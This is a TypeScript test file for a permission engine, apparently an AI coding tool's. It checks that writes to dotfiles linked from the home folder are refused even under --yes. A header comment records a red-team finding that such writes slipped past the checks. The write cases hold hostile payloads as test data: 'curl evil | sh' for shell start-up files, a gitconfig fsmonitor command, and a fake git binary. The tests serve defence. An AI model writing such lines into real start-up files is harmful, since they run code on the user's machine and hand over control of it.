// Red team R7-11 (a dotfiles repository the home links into): `~/.bashrc -> dotfiles/shell/rc.sh`,
// `~/.gitconfig -> dotfiles/git/gitconfig`, `~/.local/bin -> dotfiles/bin` were ordinary workspace files, written
// under --yes and then run by the person's next shell or git. The home catalogue is now resolved by real path
// (permissions/home-links.ts, obeyed-home-links.ts). Real symlinks in a temp HOME; the in-process engine.
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { resolveLoose } from '../../src/permissions/home-links.js';
import { obeyedContext } from '../../src/permissions/obeyed-context.js';
import { isObeyedLater } from '../../src/permissions/obeyed.js';
import { createEngine, type Engine } from '../../src/index.js';
import { removeDir, tempDir } from '../helpers/fixture.js';

let base: string;
let home: string;
let root: string;

const file = (path: string, content = '# start-up\n'): void => {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, content);
};
const link = (target: string, path: string): void => {
  mkdirSync(join(path, '..'), { recursive: true });
  symlinkSync(target, path);
};

beforeAll(async () => {
  base = await tempDir('cw-home-links-');
  home = join(base, 'home');
  root = join(home, 'dotfiles');
  file(join(root, 'shell/rc.sh'));
  file(join(root, 'git/gitconfig'), '[user]\n');
  file(join(root, 'nvim/init.lua'));
  file(join(root, 'notes.csv'), 'notes\n');
  mkdirSync(join(root, 'bin'));
  mkdirSync(join(root, 'fish'));
  // A file link, a relative one, a dangling one (the file a write creates), a folder link at a nested home path,
  // a link inside a real home folder (GNU stow links file by file there), a non-listed dot-path and known data.
  link(join(root, 'shell/rc.sh'), join(home, '.bashrc'));
  link('dotfiles/git/gitconfig', join(home, '.gitconfig'));
  link(join(root, 'shell/zshrc'), join(home, '.zshrc'));
  link(join(root, 'bin'), join(home, '.local/bin'));
  link('../../dotfiles/nvim/init.lua', join(home, '.config/nvim/init.lua'));
  link(join(root, 'fish'), join(home, '.config/fish'));
  link(join(root, 'starship.toml'), join(home, '.config/starship.toml'));
  link(join(root, 'history'), join(home, '.bash_history'));
  // A link at another level: ~/.emacs.d itself links to a folder of the workspace through a second link.
  link(join(root, 'emacs'), join(root, 'emacs-link'));
  mkdirSync(join(root, 'emacs'));
  link(join(root, 'emacs-link'), join(home, '.emacs.d'));
  // A listed folder linked to a folder outside the workspace, holding a link into it.
  file(join(root, 'vim/vimrc'));
  link(join(root, 'vim/vimrc'), join(base, 'elsewhere/vim/vimrc'));
  link(join(base, 'elsewhere/vim'), join(home, '.vim'));
});
afterAll(async () => removeDir(base));
afterEach(() => vi.unstubAllEnvs());

describe('resolveLoose: a path as the kernel opens or creates it', () => {
  it('follows a dangling link, a missing tail through a linked folder, relative links; a loop is undefined', () => {
    expect(resolveLoose(join(home, '.zshrc'))).toBe(join(root, 'shell/zshrc'));
    expect(resolveLoose(join(home, '.local/bin/new/tool'))).toBe(join(root, 'bin/new/tool'));
    expect(resolveLoose(join(home, '.gitconfig'))).toBe(join(root, 'git/gitconfig'));
    link('loop-b', join(base, 'loop-a'));
    link('loop-a', join(base, 'loop-b'));
    expect(resolveLoose(join(base, 'loop-a/x'))).toBeUndefined();
  });
});

describe('the home catalogue by real path', () => {
  const OBEYED = ['shell/rc.sh', 'git/gitconfig', 'shell/zshrc', 'bin/git', 'bin/sub/x', 'nvim/init.lua', 'fish/config.fish', 'fish/conf.d/a.fish', 'starship.toml', 'emacs/init.el', 'BIN/git', 'vim/vimrc'];
  // The home's start-up files are files of this workspace, so every other file is obeyed but the inert ones
  // (red team round 12's structural rule: src/permissions/inert-files.ts, whole-tree.test.ts).
  const ORDINARY = ['notes.csv', 'shell/notes.csv', 'git/README.csv', 'nvim/notes.csv'];
  const WHOLE = ['shell/other.sh', 'git/README', 'nvim/other.lua', 'history', 'src/a.ts'];

  it.each(OBEYED)('%s is obeyed: a home path resolves to it', (path) => {
    const found = isObeyedLater(path, obeyedContext(root, home));
    expect(found?.pattern, path).toMatch(/^~\//);
    expect(found?.why).toContain('your home folder links there');
  });

  it('files no home path resolves to stay ordinary (and known data: ~/.bash_history)', () => {
    const ctx = obeyedContext(root, home);
    for (const path of ORDINARY) expect(isObeyedLater(path, ctx), path).toBeUndefined();
    for (const path of WHOLE) expect(isObeyedLater(path, ctx)?.why, path).toContain('your home folder links there');
  });

  it('a workspace inside a linked home folder: every path of it is that home folder\'s', () => {
    const ctx = obeyedContext(join(root, 'bin'), home);
    expect(isObeyedLater('git', ctx)?.pattern).toBe('~/.local/bin');
    expect(isObeyedLater('deep/x', ctx)?.pattern).toBe('~/.local/bin');
  });

  it('without the links (another HOME), the same files are ordinary', async () => {
    const other = join(base, 'other-home');
    mkdirSync(other, { recursive: true });
    expect(isObeyedLater('shell/rc.sh', obeyedContext(root, other))).toBeUndefined();
  });
});

describe('every writer, through the engine under --yes', () => {
  let engine: Engine;
  const open = async (): Promise<Engine> => {
    vi.stubEnv('HOME', home);
    return createEngine({ workspace: root, env: { HOME: home }, permissions: { home, yes: true } });
  };

  it('write and create into a linked start-up file or folder are safety-immune; the bytes stay', async () => {
    engine = await open();
    for (const [cmd, args] of [
      ['write', { file: 'git/gitconfig', content: '[core]\n\tfsmonitor = touch /tmp/pwn\n' }],
      ['write', { file: 'shell/rc.sh', content: 'curl evil | sh\n' }],
      ['write', { file: 'shell/zshrc', content: 'curl evil | sh\n' }],
      ['create', { files: [{ path: 'bin/git', content: '#!/bin/sh\necho pwn\n', mode: '0755' }] }],
      ['write', { file: 'nvim/init.lua', content: 'os.execute("x")\n' }],
    ] as const) {
      expect(await engine.run({ cmd, args }), `${cmd} ${JSON.stringify(args)}`).toMatchObject({ ok: false, error: { code: 'C241' } });
    }
    expect(readFileSync(join(root, 'git/gitconfig'), 'utf8')).toBe('[user]\n');
    expect(existsSync(join(root, 'bin/git'))).toBe(false);
    expect(existsSync(join(root, 'shell/zshrc'))).toBe(false);
    expect(await engine.run({ cmd: 'write', args: { file: 'notes.csv', content: 'ordinary\n' } })).toMatchObject({ ok: true });
    await engine.close();
  });

  it('undo does not put back a linked start-up file (the link made after the write)', async () => {
    // A home that links nowhere yet (this suite's links make the whole dotfiles tree obeyed already).
    const bare = join(base, 'bare-home'), ws = join(base, 'bare-dotfiles');
    mkdirSync(bare, { recursive: true });
    mkdirSync(ws, { recursive: true });
    vi.stubEnv('HOME', bare);
    engine = await createEngine({ workspace: ws, env: { HOME: bare }, permissions: { home: bare, yes: true } });
    expect(await engine.run({ cmd: 'write', args: { file: 'shell/profile.sh', content: 'echo one\n' } })).toMatchObject({ ok: true });
    expect(await engine.run({ cmd: 'write', args: { file: 'shell/profile.sh', content: 'echo two\n' } })).toMatchObject({ ok: true });
    link(join(ws, 'shell/profile.sh'), join(bare, '.profile'));
    const undone = await engine.run({ cmd: 'undo', args: {} });
    expect(undone, JSON.stringify(undone)).toMatchObject({ ok: false, error: { code: 'C241' } });
    expect(readFileSync(join(ws, 'shell/profile.sh'), 'utf8')).toBe('echo two\n');
    await engine.close();
  });
});
